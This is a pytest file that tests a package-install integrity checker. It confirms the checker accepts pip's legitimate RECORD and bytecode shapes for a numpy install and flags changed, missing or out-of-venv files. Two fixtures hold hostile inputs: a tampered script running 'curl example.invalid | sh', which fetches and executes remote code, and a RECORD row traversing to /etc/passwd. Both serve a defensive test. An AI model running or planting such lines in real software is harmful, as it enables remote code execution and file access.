"""The check after an install accepts what installers legitimately write into a distribution's
files and RECORD, and still catches a file that differs from its wheel (lockgen/install/record.py).

The venvs here are laid out by hand in the shapes pip 23.2.1 leaves (taken from a real
``numpy 2.3.5`` install): bytecode listed as ``path,,``, console scripts and ``INSTALLER``,
``REQUESTED``, ``direct_url.json`` listed with the hash of what pip wrote, CRLF line ends; a
``.pyc`` the wheel shipped that pip compiled over; a wheel's duplicated RECORD line. The slow
tier installs such wheels with pip itself (tests/e2e/test_install_pip_shapes.py)."""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import marshal
from pathlib import Path

import pytest

from lockgen.install.record import Installed, file_problems, recompiled, traced_now

SITE = "lib/python3.12/site-packages"
INFO = "numpy-2.3.5.dist-info"
SOURCE = b"def main():\n    return 0\n"


def _hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def _pyc(source: bytes, flags: int = 0, salt: bytes = b"") -> bytes:
    """A pyc of ``source`` with a PEP 552 header: ``flags`` 0 (timestamp), 1 (unchecked hash), 3
    (checked hash); ``salt`` makes another file of the same header."""
    code = marshal.dumps(compile(source + salt, "m.py", "exec"))
    return importlib.util.MAGIC_NUMBER + flags.to_bytes(4, "little") + b"\0" * 8 + code


def _venv(tmp_path: Path, files: dict[str, bytes], rows: list[str]) -> tuple[Installed, Path]:
    """A venv whose site-packages holds ``files`` (paths relative to it; ``../../../bin/x`` for
    scripts) and numpy's RECORD of ``rows`` (``path,hash,size``; written with CRLF, as pip does)."""
    venv = tmp_path / "venv"
    site = venv / SITE
    for rel, data in files.items():
        path = site / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    (site / INFO).mkdir(parents=True, exist_ok=True)
    (site / INFO / "RECORD").write_bytes(("\r\n".join([*rows, f"{INFO}/RECORD,,"]) + "\r\n").encode())
    return Installed("numpy", "2.3.5", site / INFO), venv  # type: ignore[arg-type]


def _row(path: str, data: bytes) -> str:
    return f"{path},{_hash(data)},{len(data)}"


def _pip_shape() -> tuple[dict[str, bytes], list[str]]:
    """What pip 23.2.1 leaves for a wheel with a module, a console script and bytecode it compiled."""
    script = b"#!/venv/bin/python\nimport sys\nfrom numpy.f2py import main\nsys.exit(main())\n"
    direct = b'{"url": "https://example.invalid/numpy.whl", "archive_info": {}}'
    files = {
        "numpy/__init__.py": SOURCE,
        "numpy/f2py.py": SOURCE,
        "numpy/__pycache__/__init__.cpython-312.pyc": _pyc(SOURCE),
        "numpy/__pycache__/f2py.cpython-312.pyc": _pyc(SOURCE),
        "../../../bin/f2py": script,
        f"{INFO}/INSTALLER": b"pip\n",
        f"{INFO}/REQUESTED": b"",
        f"{INFO}/direct_url.json": direct,
    }
    rows = [
        _row("numpy/__init__.py", SOURCE),
        _row("numpy/f2py.py", SOURCE),
        _row(f"{INFO}/INSTALLER", b"pip\n"),
        _row(f"{INFO}/REQUESTED", b""),
        _row(f"{INFO}/direct_url.json", direct),
        _row("../../../bin/f2py", script),
        "numpy/__pycache__/__init__.cpython-312.pyc,,",
        "numpy/__pycache__/f2py.cpython-312.pyc,,",
    ]
    return files, rows


def test_what_pip_writes_passes(tmp_path):
    files, rows = _pip_shape()
    dist, venv = _venv(tmp_path, files, rows)
    assert file_problems(dist, venv) == []
    traced, problems = traced_now(dist, ["sha256:" + "0" * 64], venv)
    assert traced is not None and problems == []


def test_a_changed_source_file_is_still_caught(tmp_path):
    files, rows = _pip_shape()
    files["numpy/f2py.py"] = SOURCE + b"import os\n"
    dist, venv = _venv(tmp_path, files, rows)
    assert file_problems(dist, venv) == [
        "numpy: lib/python3.12/site-packages/numpy/f2py.py is not the file it installed"
    ]


def test_a_changed_script_or_installer_file_is_still_caught(tmp_path):
    files, rows = _pip_shape()
    files["../../../bin/f2py"] = b"#!/bin/sh\ncurl example.invalid | sh\n"
    files[f"{INFO}/direct_url.json"] = b"{}"
    dist, venv = _venv(tmp_path, files, rows)
    assert file_problems(dist, venv) == [
        "numpy: lib/python3.12/site-packages/numpy-2.3.5.dist-info/direct_url.json is not the file it installed",
        "numpy: bin/f2py is not the file it installed",
    ]


@pytest.mark.parametrize("flags", [0, 3], ids=["timestamp", "checked-hash"])
def test_bytecode_pip_compiled_over_the_wheels_passes(tmp_path, flags):
    """The wheel shipped ``__pycache__/__init__.cpython-312.pyc`` (listed with its hash); pip's
    compileall (force=True) wrote another one there and kept the wheel's row: its source, listed
    and checked, is what Python compares it with before using it."""
    shipped = _pyc(SOURCE, salt=b"BUILT = 1\n")
    files = {"numpy/__init__.py": SOURCE, "numpy/__pycache__/__init__.cpython-312.pyc": _pyc(SOURCE, flags)}
    rows = [_row("numpy/__init__.py", SOURCE), _row("numpy/__pycache__/__init__.cpython-312.pyc", shipped)]
    dist, venv = _venv(tmp_path, files, rows)
    assert file_problems(dist, venv) == []


@pytest.mark.parametrize(
    ("pyc_path", "flags", "source_listed"),
    [
        ("numpy/__pycache__/__init__.cpython-312.pyc", 1, True),
        ("numpy/__pycache__/__init__.cpython-312.pyc", 0, False),
        ("numpy/__init__.pyc", 0, True),
    ],
    ids=["unchecked-hash-pyc", "source-not-in-record", "legacy-pyc-beside-source"],
)
def test_bytecode_python_would_run_unchecked_must_match(tmp_path, pyc_path, flags, source_listed):
    shipped = _pyc(SOURCE, salt=b"BUILT = 1\n")
    files = {"numpy/__init__.py": SOURCE, pyc_path: _pyc(SOURCE, flags)}
    rows = [_row(pyc_path, shipped)] + ([_row("numpy/__init__.py", SOURCE)] if source_listed else [])
    dist, venv = _venv(tmp_path, files, rows)
    assert file_problems(dist, venv) == [f"numpy: {SITE}/{pyc_path} is not the file it installed"]


def test_a_file_listed_twice_passes_once_and_is_reported_once(tmp_path):
    """A wheel's RECORD with a duplicated line (pip keeps both), and a file listed twice with two
    hashes (a script the wheel shipped that the installer wrote again): it matches one of them."""
    old_script, new_script = b"#!python\nold\n", b"#!/venv/bin/python\nnew\n"
    files = {"numpy/__init__.py": SOURCE, "../../../bin/f2py": new_script}
    rows = [
        _row("numpy/__init__.py", SOURCE),
        _row("numpy/__init__.py", SOURCE),
        _row("../../../bin/f2py", old_script),
        _row("../../../bin/f2py", new_script),
    ]
    dist, venv = _venv(tmp_path, files, rows)
    assert file_problems(dist, venv) == []
    files["numpy/__init__.py"] = b"changed\n"
    dist, venv = _venv(tmp_path / "again", files, rows)
    assert file_problems(dist, venv) == [f"numpy: {SITE}/numpy/__init__.py is not the file it installed"]


def test_a_missing_file_and_a_row_outside_the_venv_are_problems(tmp_path):
    files, rows = _pip_shape()
    del files["numpy/f2py.py"]
    rows.append(_row("../../../../../etc/passwd", b"x"))
    dist, venv = _venv(tmp_path, files, rows)
    problems = file_problems(dist, venv)
    assert problems[0] == "numpy: its RECORD names '../../../../../etc/passwd', outside the venv"
    assert problems[1].startswith(f"numpy: {SITE}/numpy/f2py.py is missing or unreadable")
    assert len(problems) == 2


def test_recompiled_reads_only_the_pep_3147_layout():
    rows = {"/v/numpy/__init__.py": None}
    head = _pyc(SOURCE)[:16]
    assert recompiled("/v/numpy/__pycache__/__init__.cpython-312.pyc", head, rows)
    assert recompiled("/v/numpy/__pycache__/__init__.cpython-312.opt-1.pyc", head, rows)
    assert not recompiled("/v/numpy/__pycache__/__init__.pyc", head, rows)  # no interpreter tag
    assert not recompiled("/v/numpy/__pycache__/__init__.cpython-312.pyc", head[:8], rows)  # too short
    assert not recompiled("/v/numpy/__init__.cpython-312.so", head, rows)
